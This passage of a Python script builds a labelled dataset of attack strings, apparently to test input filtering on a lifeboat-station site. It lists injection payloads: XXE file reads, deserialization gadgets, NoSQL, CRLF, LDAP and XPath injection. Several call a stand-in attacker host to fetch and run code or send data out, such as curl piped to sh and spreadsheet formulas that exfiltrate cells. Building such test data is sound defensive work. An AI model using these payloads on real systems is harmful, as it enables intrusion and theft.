    ("eval-ruby", "#{`id`}"),
    ("eval-ruby", "Kernel.open('|curl attacker.example/rb | sh')"),
    ("proto-pollution", "{\"__proto__\":{\"isAdmin\":true}}"),
    ("proto-pollution", "{\"constructor\":{\"prototype\":{\"role\":\"admin\"}}}"),
    ("proto-pollution", "__proto__[outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');s"),
    ("proto-pollution", "{\"settings\":{\"__proto__\":{\"shell\":\"/proc/self/exe\",\"NODE_OPTIONS\":\"--require /proc/self/environ\"}}}"),
    ("proto-pollution", "constructor[prototype][escapeFunction]=1;return global.process.mainModule.require('child_process').execSync('id')"),
    ("csv-formula", "=cmd|' /C calc'!A0"),
    ("csv-formula", "=HYPERLINK(\"https://attacker.example/?d=\"&A1&B1,\"Open rota\")"),
    ("csv-formula", "@SUM(1+1)*cmd|' /C powershell IEX(wget attacker.example/x)'!A0"),
    ("csv-formula", "+cmd|'/c mshta http://203.0.113.4/a.hta'!_x"),
    ("csv-formula", "-2+3+cmd|' /C notepad'!'A1'"),
    ("csv-formula", "=IMPORTXML(CONCAT(\"https://attacker.example/l?\",A2:C20),\"//a\")"),
    ("csv-formula", "name,role\n=WEBSERVICE(\"http://attacker.example/?\"&A2),crew"),
    ("csv-formula", "Sarah;Helm;=DDE(\"cmd\";\"/C calc\";\"x\")"),
    ("xxe", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><roster>&x;</roster>"),
    ("xxe", "<!DOCTYPE shout [<!ENTITY % e SYSTEM \"http://attacker.example/e.dtd\"> %e;]><shout>1</shout>"),
    ("xxe", "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY m SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><a>&m;</a>"),
    ("xxe", "<!DOCTYPE x [<!ENTITY % f SYSTEM \"php://filter/convert.base64-encode/resource=/var/www/lifeboat/.env\"><!ENTITY % d \"<!ENTITY &#x25; s SYSTEM 'http://attacker.example/?%f;'>\">%d;%s;]><x/>"),
    ("xxe", "<svg xmlns=\"http://www.w3.org/2000/svg\"><!DOCTYPE s [<!ENTITY h SYSTEM \"file:///etc/hostname\">]><text>&h;</text></svg>"),
    ("xxe", "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" parse=\"text\" href=\"file:///etc/shadow\"/>"),
    ("deserialization", "O:8:\"CrewUser\":1:{s:4:\"role\";s:5:\"admin\";}"),
    ("deserialization", "a:1:{i:0;O:16:\"Monolog\\Handler\":1:{s:4:\"file\";s:20:\"/var/www/html/x.php\";}}"),
    ("deserialization", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvcnlJAAl0aHJlc2hvbGR4cD9AAAAAAAAMdwgAAAAQAAAAAXQAA2NtZHQAAmlkeA=="),
    ("deserialization", "cos\nsystem\n(S'curl attacker.example/pk|sh'\ntR."),
    ("deserialization", "!!python/object/apply:os.system [\"id\"]"),
    ("deserialization", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList\",\"$values\":[\"cmd\",\"/c calc\"]},\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}"),
    ("deserialization", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://attacker.example:1389/obj\",\"autoCommit\":true}"),
    ("deserialization", "--- !ruby/object:Gem::Installer\ni: x\n--- !ruby/object:Gem::Requirement\nrequirements: !ruby/object:Gem::Package::TarReader\n  io: '|id'"),
    ("deserialization", "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()"),
]

# ---------------------------------------------------------------- nosqli (literals)
NOSQLI = [
    ("operator", "{\"login\": \"admin\", \"password\": {\"$ne\": null}}"),
    ("operator", "{\"crew_id\": {\"$gt\": \"\"}}"),
    ("operator", "{\"pager\": {\"$regex\": \"^7\"}}"),
    ("operator", "{\"username\":{\"$in\":[\"admin\",\"coxswain\",\"lom\"]},\"password\":{\"$exists\":true}}"),
    ("operator", "{\"boat\":\"ALB\",\"$or\":[{},{\"a\":\"a\"}]}"),
    ("operator", "{\"role\":{\"$nin\":[\"trainee\"]},\"pin\":{\"$regex\":\".*\"}}"),
    ("operator", "{\"date\":{\"$gte\":\"\"},\"$comment\":\"dump all shouts\"}"),
    ("operator", "{\"email\":{\"$regex\":\"@\",\"$options\":\"i\"},\"password\":{\"$not\":{\"$eq\":\"x\"}}}"),
    ("param-operator", "password[$ne]=lifeboat"),
    ("param-operator", "login[$regex]=^adm&password[$gt]="),
    ("param-operator", "pager_pin[$exists]=true"),
    ("param-operator", "crew[$where]=1"),
    ("param-operator", "username[%24ne]=x&password[%24ne]=x"),
    ("where-js", "{\"$where\": \"this.role == 'admin' || sleep(5000)\"}"),
    ("where-js", "'; return true; var x='"),
    ("where-js", "x' || this.password.match(/^a/) || 'a'=='b"),
    ("where-js", "{\"$where\":\"function(){ return obj.pager_pin.length > 0 }\"}"),
    ("where-js", "1; while(true){}"),
    ("where-js", "Sea Fever'; sleep(6000); var z='"),
    ("aggregation", "[{\"$lookup\":{\"from\":\"crew_users\",\"localField\":\"x\",\"foreignField\":\"x\",\"as\":\"leak\"}}]"),
    ("aggregation", "{\"$expr\":{\"$function\":{\"body\":\"function(){return true}\",\"args\":[],\"lang\":\"js\"}}}"),
    ("aggregation", "[{\"$match\":{}},{\"$out\":\"public_newsletter\"}]"),
    ("couch-elastic", "{\"selector\":{\"_id\":{\"$gt\":null}},\"fields\":[\"password\"]}"),
    ("couch-elastic", "{\"query\":{\"script\":{\"script\":\"java.lang.Math.class.forName('java.lang.Runtime').getRuntime().exec('id')\"}}}"),
    ("couch-elastic", "*) OR crew_role:admin OR (name:*"),
    ("couch-elastic", "{\"query\":{\"query_string\":{\"query\":\"* OR _exists_:password_hash\"}}}"),
    ("redis", "roster:week32\r\nCONFIG SET dir /var/www/html\r\nCONFIG SET dbfilename x.php\r\nSAVE"),
]

# ---------------------------------------------------------------- crlf (literals)
CRLF = [
    ("log-forging", "Exercise done\n2024-07-14 14:18:02 INFO user=admin action=DELETE_ALL_LOGS status=ok"),
    ("log-forging", "Tow established\r\n[2024-08-01 03:05:11] AUTH SUCCESS user=coxswain ip=10.0.0.2"),
    ("log-forging", "ok%0a2024-09-03T10:00:00Z level=info msg=\"password reset\" user=lom"),
    ("log-forging", "kayak%0d%0a127.0.0.1 - - [01/Jan/2024:00:00:00 +0000] \"GET /admin HTTP/1.1\" 200 512"),
    ("log-forging", "Pager test OK\n\n*** ALERT: disk wiped by ops — ignore prior entries ***"),
    ("log-forging", "returned 16:02\u2028INFO login ok user=admin"),
    ("log-forging", "casualty landed\\u000aWARN fake entry for auditor"),
    ("header-injection", "en-GB\r\nSet-Cookie: session=attacker-fixed; Path=/"),
    ("header-injection", "https://lifeboat-station.example.org/news%0d%0aLocation:%20https://attacker.example/"),
    ("header-injection", "dark%0D%0AX-Forwarded-Host: attacker.example"),
    ("header-injection", "report.pdf\"\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>"),
    ("header-injection", "/roster%E5%98%8A%E5%98%8DSet-Cookie:%20x=y"),
    ("header-injection", "Europe/London%0d%0aAccess-Control-Allow-Origin:%20https://attacker.example"),
    ("header-injection", "calendar.ics\rRefresh: 0; url=https://attacker.example/"),
    ("response-splitting", "news%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<h1>Station closed</h1>"),
    ("response-splitting", "x\r\n\r\n<html><body>Log in again: <form action=//attacker.example/p></form></body></html>"),
    ("response-splitting", "%0d%0a%0d%0a<svg onload=alert(1)>"),
    ("response-splitting", "en\u560d\u560aContent-Type: text/html\u560d\u560a\u560d\u560a<script>alert(1)</script>"),
    ("mail-header", "Jean Smith <jean@example.org>\r\nBcc: everyone@attacker.example"),
    ("mail-header", "Newsletter feedback%0ACc:%20list@attacker.example%0ASubject:%20Urgent%20donation%20bank%20change"),
    ("mail-header", "pam@example.org\nReply-To: finance@attacker.example\nX-Priority: 1"),
    ("mail-header", "Quiz night\r\nContent-Type: text/html\r\n\r\n<a href=\"https://attacker.example/giftaid\">Confirm Gift Aid</a>"),
    ("mail-header", "Volunteer enquiry\nTo: all-crew@lifeboat-station.example.org\nFrom: coxswain@lifeboat-station.example.org"),
    ("mail-header", "donor@example.org%0d%0aBcc:%20harvest@attacker.example"),
    ("smtp-injection", "Thanks!\r\n.\r\nMAIL FROM:<lom@lifeboat-station.example.org>\r\nRCPT TO:<victim@example.org>\r\nDATA\r\nSubject: Bank details changed\r\n\r\nPay to attacker\r\n."),
    ("csv-row", "Sarah Kemp\n999,Ghost Crew,Helm,07700900999"),
    ("csv-row", "2024-07-14;service;14:18;16:02;5\r\n2024-07-15;service;00:00;23:59;=HYPERLINK(\"https://attacker.example\",\"log\")"),
    ("csv-row", "Open day notes\",\"admin\",\"true\"\n\"evil\",\"admin\",\"true"),
    ("csv-row", "Red handflare,2026-09\n4,Parachute rocket,2099-12"),
    ("csv-row", "Ali Reza\r\nMallory,LOM,01,07700900000"),
]

# ---------------------------------------------------------------- ldap-xpath (literals)
LDAP_XPATH = [
    ("ldap", "*)(uid=*))(|(uid=*"),
    ("ldap", "admin)(&)"),
    ("ldap", "coxswain)(|(password=*)"),
    ("ldap", "*)(memberOf=cn=station-admins,ou=groups,dc=lifeboat,dc=org)(cn=*"),
    ("ldap", "Sarah*)(userPassword=a*"),
    ("ldap", "x)(!(objectClass=void))(uid=x"),
    ("ldap", "*))%00"),
    ("ldap", "jsmith)(|(telephoneNumber=*)(mail=*"),
    ("ldap", "\\2a)(uid=\\2a"),
    ("ldap", "*)(description=*pin*"),
    ("xpath", "' or '1'='1"),
    ("xpath", "x' or name()='password' or 'a'='b"),
    ("xpath", "']|//crew/member/password|a['"),
    ("xpath", "O'Neill' or count(/roster/crew)>0 or 'x'='y"),
    ("xpath", "1 or 1=1]/../../*[1"),
    ("xpath", "' and substring(//user[1]/pin,1,1)='7' and ''='"),
    ("xpath", "')] | //* | //*[contains(.,'"),
    ("xpath", "Dan' or string-length(//user[role='admin']/password)>5 or '"),
    ("xpath", "x'] | doc('http://attacker.example/x.xml')//a | //x['"),
    ("xpath", "boat[name/text()='ALB' or 1=1]"),
]


def main():
    rng = random.Random(SEED)
    here = os.path.dirname(os.path.abspath(__file__))
    benign = set()
    bpath = os.path.join(here, "benign.jsonl")
    if os.path.exists(bpath):
        with open(bpath, encoding="utf-8") as f:
            for line in f:
                benign.add(json.loads(line)["value"])

    rows = []
    seen = set()
    stats = {}

    def add(cat, cls, val, literal):
        assert 1 <= len(val) <= 2000, val
        assert val not in seen, ("dup", val)
        assert val not in benign, ("benign collision", val)
        for ch in val:
            o = ord(ch)
            assert not (o < 32 and ch not in "\n\r\t") and not (127 <= o < 160), (val, o)
        seen.add(val)
        rows.append((cat, cls, val))
        s = stats.setdefault(cat, [0, 0])
        s[0] += 1
        if literal:
            s[1] += 1

    def urlenc(s):
        return "".join("%%%02X" % b for b in s.encode("utf-8"))

    # sqli: literals + percent-encode-every-byte
    for cls, v in SQLI:
        add("sqli", cls, v, True)
    for v in SQLI_FOR_ENCODE:
        add("sqli", "encoded+urlencode", urlenc(v), False)

    # xss: literals + pool joined to theme prefixes
    for cls, v in XSS:
        add("xss", cls, v, True)
    combos = [(p, x) for p in XSS_PREFIX for x in XSS_POOL]
    rng.shuffle(combos)
    n = 0
    for p, x in combos:
        if n >= 7:
            break
        v = p + x
        if v in seen or v in benign:
            continue
        add("xss", "pooled", v, False)
        n += 1

    # cmdi: literals + pool joined to theme prefixes
    for cls, v in CMDI:
        add("cmdi", cls, v, True)
    combos = [(p, x) for p in CMDI_PREFIX for x in CMDI_POOL]
    rng.shuffle(combos)
    n = 0
    for p, x in combos:
        if n >= 6:
            break
        v = p + x
        if v in seen or v in benign:
            continue
        add("cmdi", "pooled", v, False)
        n += 1

    for cls, v in TRAVERSAL:
        add("traversal", cls, v, True)
    for v in TRAV_FOR_ENCODE:
        add("traversal", "encoded+urlencode", urlenc(v), False)

    for cls, v in SSRF:
        add("ssrf", cls, v, True)
    for cls, v in CODE:
        add("code", cls, v, True)
    for cls, v in NOSQLI:
        add("nosqli", cls, v, True)
    for cls, v in CRLF:
        add("crlf", cls, v, True)
    for cls, v in LDAP_XPATH:
        add("ldap-xpath", cls, v, True)

    with open(os.path.join(here, "attacks.jsonl"), "w", encoding="utf-8", newline="\n") as f:
        for i, (cat, cls, v) in enumerate(rows, 1):
            obj = {"id": "haiq-%05d" % i, "category": cat, "class": cls,
                   "label": "attack", "value": v}
            f.write(json.dumps(obj, ensure_ascii=False) + "\n")
    return stats


if __name__ == "__main__":
    st = main()
    if os.environ.get("LIFEBOAT_STATS"):
        tot = sum(s[0] for s in st.values())
        lit = sum(s[1] for s in st.values())
        for k, (n, l) in st.items():
            print("%-12s %4d %4d" % (k, n, l))
        print("total", tot, "literals", lit)
